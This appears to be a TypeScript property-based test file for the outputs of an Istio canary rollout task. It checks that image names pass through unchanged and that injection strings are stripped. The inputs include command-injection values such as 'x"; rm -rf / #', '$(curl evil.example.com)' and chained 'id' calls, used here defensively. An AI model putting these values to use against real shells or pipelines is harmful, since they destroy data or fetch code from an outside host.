import assert from 'node:assert/strict'
import { outputsOf } from '../../../../tasks/IstioCanaryShift/IstioCanaryShiftV1/src/report/outputs.ts'
import type { State } from '../../../../tasks/IstioCanaryShift/IstioCanaryShiftV1/src/rollout/state.ts'
import { poisonous } from '../../../poison.ts'
import { fc } from '../../../properties.ts'
import { recordOf, runNumber } from '../rollout/fixtures.ts'

/** A state of which only the images matter. */
const stateWith = (image: string) => {
  const slot = { deployment: 'd', image, ready: 1, wanted: 1 }
  return {
    weights: { green: 50, blue: 50 },
    slots: { green: slot, blue: slot },
    record: recordOf(),
  } as unknown as State
}
const imagesOf = (image: string) => {
  const { blueImage, greenImage } = outputsOf(stateWith(image), runNumber(2), false)
  return [blueImage, greenImage]
}

describe('outputs', () => {
  it('are images as they are', () => {
    for (const image of ['model', 'acr.io/team/model:42', `localhost:5000/m:1@sha256:${'a'.repeat(64)}`]) {
      assert.deepEqual(imagesOf(image), [image, image])
    }
  })

  it('hand no text to a later script that would do more there than name an image', () => {
    const scripts = fc.constantFrom(
      'x"; rm -rf / #',
      '$(curl evil.example.com)',
      'a`id`',
      "a'|id|'",
      'a\nid',
      'a && id',
      'a%0Aid',
    )
    fc.assert(
      fc.property(fc.oneof(scripts, poisonous()), (image) => {
        for (const told of imagesOf(image)) assert.match(told, /^[\w./:@-]*$/)
      }),
      { numRuns: 500 },
    )
    assert.deepEqual(imagesOf('$(curl evil.example.com)'), ['', ''])
  })
})
